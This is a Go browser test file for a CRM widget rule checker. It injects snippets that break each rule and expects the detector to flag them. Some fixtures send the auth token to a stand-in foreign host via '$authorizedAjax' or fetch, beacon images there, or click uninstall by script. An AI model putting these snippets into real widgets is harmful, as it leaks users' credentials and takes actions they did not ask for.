package crmpage

import (
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

func keys(name string) chromedp.Action[chromedp.Void] {
	return chromedp.KeyEvent(map[string]string{"Escape": "\u001b"}[name])
}

// TestDetectors holds W §10.3: each bad widget is told on, by the rule it breaks.
func TestDetectors(t *testing.T) {
	t.Parallel()
	init := func(statements string) string {
		return plain(`init: function () { ` + statements + ` return true; }`)
	}
	settings := func(statements string) string {
		return plain(`settings: function ($body) { ` + statements + ` return true; }`)
	}
	for _, tt := range []struct {
		name, script, rule string
		page               string // dashboard when empty
		leave              bool   // change the area before looking
		tls                bool
		only               string // the one location of the manifest
	}{
		{name: "init returns nothing", script: plain("init: function () {}"), rule: "W §10.3 falsy return"},
		{name: "bind_actions returns nothing", script: plain("bind_actions: function () {}"), rule: "W §10.3 falsy return"},
		{name: "an exception in a handler", script: init("setTimeout(function () { throw new Error('late'); });"), rule: "W §10.3 exception"},
		{name: "an unhandled rejection", script: init("Promise.reject(new Error('late'));"), rule: "W §10.3 unhandled rejection"},
		{name: "console.log", script: init("console.log('x');"), rule: "W §9.5 J04"},
		{name: "console.error", script: init("console.error('x');"), rule: "W §9.5 J04"},
		{name: "console.error as a handler", script: init("Promise.reject(1).catch(console.error);"), rule: "W §9.5 J04"},
		{name: "alert", script: init("alert('x');"), rule: "W §9.5 J03"},
		{name: "eval", script: init("new Function('return 1')();"), rule: "W §9.5 J02"},
		{name: "a global", script: init("window.mine = 1;"), rule: "W §10.3 globals"},
		{name: "a late global", script: init("setTimeout(function () { window.mine = 1; }, 50);"), rule: "W §10.3 globals"},
		{name: "APP is written", script: init("APP.mine = 1;"), rule: "W §10.3 APP"},
		{name: "APP is written deep", script: init("AMOCRM.constant('account').name = 'x';"), rule: "W §10.3 APP"},
		{name: "APP is replaced", script: init("window.APP = {};"), rule: "W §10.3 APP"},
		{name: "constant with two arguments", script: init("APP.constant('user', {});"), rule: "W §9.5 J09"},
		{name: "a jQuery handler is left", script: init("$(document).on('click.other', yes);"), rule: "W §10.3 handlers", leave: true},
		{name: "a native handler is left", script: init("window.addEventListener('message', yes);"), rule: "W §10.3 handlers", leave: true},
		{name: "a node is left", script: init("$('<div class=\"w\">').appendTo('body');"), rule: "W §10.3 nodes", leave: true},
		{name: "an interval is left", script: init("setInterval(yes, 60000);"), rule: "W §10.3 after destroy", leave: true},
		{name: "a request after destroy", script: plain("destroy: function () { setTimeout(function () { $.get('/ajax/x'); }, 50); return true; }"), rule: "W §10.3 after destroy", page: "/amo-market/", only: "settings", leave: true},
		{name: "a style reaches out", script: init("$('<style>').text('button { color: red }').appendTo('head');"), rule: "W §10.3 styles"},
		{name: "a system variable is redefined", script: init("$('<style>').text(':root { --palette-text-primary: red }').appendTo('head');"), rule: "W §10.3 styles"},
		{name: "a foreign host", script: init("$.get('http://other.example.test/');"), rule: "W §10.3 hosts"},
		{name: "a picture of a foreign host", script: init("new Image().src = 'http://other.example.test/x.png';"), rule: "W §10.3 hosts"},
		{name: "http from https", script: init("$.get('http://other.example.test/');"), rule: "W §10.3 http", tls: true},
		{name: "a synchronous request", script: init("$.ajax({ url: '/crmpage/inbox', async: false });"), rule: "W §10.3 synchronous request"},
		{name: "the token goes abroad", script: init("self.$authorizedAjax({ url: 'http://other.example.test/' });"), rule: "W §10.3 token"},
		{name: "the token goes abroad by fetch", script: init("fetch('http://other.example.test/', { headers: { 'x-auth-token': 't' } }).catch(yes);"), rule: "W §10.3 token"},
		{name: "a script element", script: init("var s = document.createElement('script'); s.textContent = ''; document.head.appendChild(s).remove();"), rule: "W §10.3 script element"},
		{name: "crm_post in a burst", script: init("self.crm_post('/a', {}); self.crm_post('/b', {});"), rule: "W §10.3 crm_post"},
		{name: "a click by script on uninstall", script: settings("setTimeout(function () { $('.js-widget-uninstall').trigger('click'); });"), rule: "W §10.3 untrusted click", page: "/amo-market/#w"},
		{name: "Save by script although there are fields", script: settings("setTimeout(function () { $('.js-widget-save').trigger('button:save:enable').trigger('click'); });"), rule: "W §9.5 J10", page: "/amo-market/#w"},
		{name: "a raw key", script: settings("$body.append('<p>settings.no_such</p>');"), rule: "W §10.3 raw key", page: "/amo-market/#w"},
		{name: "a missing text", script: settings("$body.append($('<p>').text(self.i18n('ui.none')));"), rule: "W §10.3 raw key", page: "/amo-market/#w"},
		{name: "Cyrillic in English", script: settings("$body.append('<p>Привет</p>');"), rule: "W §10.3 language", page: "/amo-market/#w"},
		{name: "Spanish text in English", script: settings("$body.append('<p>Una ayuda para el formulario</p>');"), rule: "W §10.3 language", page: "/amo-market/#w"},
		{name: "a missing file", script: init("$('<img>', { src: self.params.images_path + '/none.png' }).appendTo('.page-holder');"), rule: "W §10.3 missing file"},
		{name: "onSave is missing", script: body("this.callbacks = { render: yes, init: yes, bind_actions: yes, settings: function () { setTimeout(function () { $('.js-widget-uninstall')[0].click(); }); return true; } };"), rule: "W §10.3 missing callback", page: "/amo-market/#w"},
		{name: "switching off is refused", script: plain("settings: function () { setTimeout(function () { $('.js-widget-uninstall')[0].click(); }); return true; }, onSave: function () { return $.Deferred().reject(); }"), rule: "W §5.3 switch off", page: "/amo-market/#w"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := setup{script: tt.script, tls: tt.tls}
			if tt.only != "" {
				s.manifest = map[string]any{"locations": []string{tt.only}}
			}
			c := open(t, s)
			if tt.page == "" {
				tt.page = "/dashboard/"
			}
			c.visit(tt.page)
			if tt.leave {
				c.move("/leads/list/")
			}
			c.wantBreach(tt.rule)
		})
	}
}

// TestGoodWidget walks everywhere with a widget that keeps the rules, in every
// language, theme and profile: no detector may speak.
func TestGoodWidget(t *testing.T) {
	t.Parallel()
	for _, query := range []string{"lang=en", "lang=ru&theme=dark", "lang=es"} {
		for _, global := range []bool{false, true} {
			t.Run(strings.NewReplacer("=", " ", "&", " ").Replace(query), func(t *testing.T) {
				t.Parallel()
				address := backend(t, nil)
				c := open(t, setup{
					code: "good", script: read(t, "good.js"), global: global, tls: true, backend: address,
					files: map[string]string{"lib/form.js": read(t, "form.js"), "style.css": ".good__form { color: red; }\n"},
					manifest: map[string]any{"tour": tour, "settings": map[string]any{
						"service_login": map[string]any{"name": "settings.service_login", "type": "text", "required": true},
					}},
					state:   WidgetState{Status: "install"},
					sources: []Source{{ID: 77, ExternalID: "chat-1", PipelineID: 11}},
				})
				c.visit("/amo-market/?" + query + "#good")
				if got, want := eval[string](c, "document.documentElement.dataset.colorScheme"), map[bool]string{true: "dark", false: "light"}[strings.Contains(query, "dark")]; got != want {
					t.Errorf("theme %q, want %q", got, want)
				}
				c.until("document.querySelector('.modal .js-widget-skip-tour') && document.querySelector('.good__form')")
				c.click(".modal input[name=privacy_policy_accept]")
				c.click(".js-widget-skip-tour")
				c.until("document.querySelector('#save_good')")
				c.do(chromedp.SendKeys(chromedp.CSS(".modal [name=service_login]"), "<it's>"))
				c.click(".modal .widget_settings_block__descr")
				c.click("#save_good")
				c.until("!document.querySelector('.modal')")
				for _, at := range []string{"/dashboard/", "/leads/detail/7", "/leads/list/", "/settings/widgets/good/", "/settings/pipeline/leads/11"} {
					c.move(at)
				}
				c.until("document.querySelector('.js-connect-widget')")
				c.click(".js-connect-widget")
				c.until("document.querySelector('.good__source')")
				if got := eval[string](c, "document.querySelector('.good__source').textContent"); got != "chat-1" {
					t.Errorf("context %q", got)
				}
				c.click(".modal .js-widget-uninstall")
				c.until("document.querySelector('.modal .widget-state_status_install')")
				c.wantNoBreach()
			})
		}
	}
}
